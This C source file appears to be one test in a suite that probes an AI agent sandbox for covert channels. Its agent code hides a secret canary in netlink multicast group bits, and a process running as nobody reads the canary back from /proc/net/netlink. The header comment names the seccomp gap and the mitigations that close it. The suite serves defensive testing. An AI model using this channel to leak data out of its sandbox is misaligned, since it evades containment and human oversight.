// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* netlink_groups - NETLINK_ROUTE (the netlink protocol seccomp allows for name resolution) as
 * storage by its multicast group memberships: setsockopt(SOL_NETLINK, NETLINK_ADD_MEMBERSHIP)
 * needs no privilege for rtnetlink's groups 1..32 except 30 and 31, connect() to the kernel
 * autobinds the socket (no bind(2)), and /proc/net/netlink (0444) lists every bound netlink
 * socket of the network namespace with its first 32 group bits in hex. The agent stores 3 bytes
 * of the canary per socket (group bits 1..24), the chunk's index in bits 25..27 and a marker in
 * bit 28: 5 sockets for the canary; 30 bits per socket, as many sockets as RLIMIT_NOFILE.
 * Verifier: uid 65534 reads /proc/net/netlink while the agent waits (sync "joined") and
 * reassembles the chunks of protocol-0 sockets that carry the marker.
 * What would block it: refusing NETLINK_ADD_MEMBERSHIP (and bind's nl_groups, already refused
 * with bind) to agents (SOL_NETLINK is not SOL_SOCKET, so seccomp lets it through today), or a
 * network namespace per agent. Bits per socket, not a free-form name, but the same class as
 * ip6_mcast_group: socket state the kernel lists to everyone. Blocked by the first (EPERM on
 * SOL_NETLINK NETLINK_ADD_MEMBERSHIP) and, since stop 33, by no netlink socket at all
 * (netlink_rmem). */
#include <stdint.h>
#include <linux/netlink.h>

#include "atk.h"

#define NLG_MARK (1u << 27)

static int agent(struct atk_ctx *c)
{
    size_t n = strlen(c->secret);
    int ok = 0, chunks = (int)((n + 2) / 3);
    for (int k = 0; k < chunks && k < 8; k++) {
        int s = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
        if (s < 0) {
            atk_try(c, "socket(NETLINK_ROUTE)", -1);
            return 0;
        }
        struct sockaddr_nl kern = {.nl_family = AF_NETLINK};
        if (connect(s, (struct sockaddr *)&kern, sizeof(kern)) < 0) {
            atk_try(c, "connect (autobind)", -1);
            return 0;
        }
        uint32_t v = NLG_MARK | ((uint32_t)k << 24);
        for (int b = 0; b < 3; b++)
            v |= (uint32_t)(3 * k + b < (int)n ? (unsigned char)c->secret[3 * k + b] : 0) << (8 * b);
        for (int bit = 0; bit < 28; bit++) {
            int g = bit + 1;
            if ((v & (1u << bit)) && setsockopt(s, SOL_NETLINK, NETLINK_ADD_MEMBERSHIP, &g, sizeof(g)) < 0) {
                atk_try(c, "NETLINK_ADD_MEMBERSHIP", -1);
                return 0;
            }
        }
        ok++; /* the socket stays open until the agent exits */
    }
    atk_note(c, "%d NETLINK_ROUTE sockets joined to their chunk's groups", ok);
    atk_sync(c, "joined");
    return 0;
}

static int rd(struct atk_ctx *c, char *out, size_t n)
{
    FILE *f = fopen("/proc/net/netlink", "re");
    if (!f)
        return -1;
    static uint32_t seen[4096];
    int ns = 0;
    char line[512];
    while (fgets(line, sizeof(line), f) && ns < 4096) {
        char sk[64];
        int proto;
        unsigned portid, groups;
        if (sscanf(line, "%63s %d %u %x", sk, &proto, &portid, &groups) == 4 && proto == 0 && (groups & NLG_MARK))
            seen[ns++] = groups;
    }
    fclose(f);
    size_t len = strlen(c->canary);
    int chunks = (int)((len + 2) / 3);
    for (int k = 0; k < chunks; k++) {
        uint32_t want = NLG_MARK | ((uint32_t)k << 24);
        for (int b = 0; b < 3; b++)
            want |= (uint32_t)(3 * k + b < (int)len ? (unsigned char)c->canary[3 * k + b] : 0) << (8 * b);
        int found = 0;
        for (int i = 0; i < ns && !found; i++)
            found = seen[i] == want;
        if (!found)
            return 0;
    }
    snprintf(out, n, "uid 65534 reassembled the canary from the group bits of %d sockets in /proc/net/netlink", chunks);
    return 1;
}

static void on_sync(struct atk_ctx *c, const char *tag) { atk_verify_as_nobody(c, tag, NULL, rd); }

static const struct atk A = {"netlink_groups",
                             "NETLINK_ROUTE group memberships read from /proc/net/netlink",
                             0,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
